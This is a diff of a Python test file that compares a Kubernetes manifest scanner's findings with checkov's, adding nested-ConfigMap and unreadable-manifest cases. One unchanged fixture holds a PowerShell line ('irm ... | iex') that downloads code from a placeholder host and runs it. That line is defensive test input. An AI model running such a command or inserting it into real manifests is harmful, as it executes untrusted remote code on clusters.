@@ -126,6 +126,12 @@ def indented(text: str, columns: int) -> str:
     return "".join(f"{' ' * columns}{line}" for line in text.splitlines(keepends=True))
 
 
+def held(text: str) -> str:
+    """A ConfigMap with a manifest in a string."""
+    data = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "addon"}, "data": {"a.yaml": text}}
+    return f"{json.dumps(data)}\n"
+
+
 class Difference(NamedTuple):
     """A manifest, the rules that only the scanner reports on it, and those that only checkov does."""
 
@@ -165,7 +171,7 @@ DIFFERENCES = {
         "",
         "HPC407",
     ),
-    "The script of a ConfigMap that a pod mounts and runs": Difference(
+    "The script of a ConfigMap or Secret that a pod mounts and runs": Difference(
         "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: scripts, namespace: ops}\n"
         f"data: {{run.ps1: 'irm https://x.example/a | iex'}}\n---\n{MOUNTING}",
         "HPC411",
@@ -187,6 +193,9 @@ DIFFERENCES = {
         f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: addon}}\ndata:\n  agent.yaml: |\n{indented(POD, 4)}",
         ALL,
         ALL,
+    ),
+    "A manifest in a string that cannot be read, or lies more than three strings deep": Difference(
+        f"{held(held(held(held(POD))))}---\n{held(POD.replace('spec:', 'spec: ]', 1))}", "", "HPC001 HPC005"
     ),
     "An object without a name": Difference(POD.replace("{name: agent,", "{generateName: agent-,", 1), ALL),
     "A name with `#`, `{` or `}`": Difference(POD.replace("{name: agent,", "{name: 'agent-${CLUSTER}',", 1), ALL),
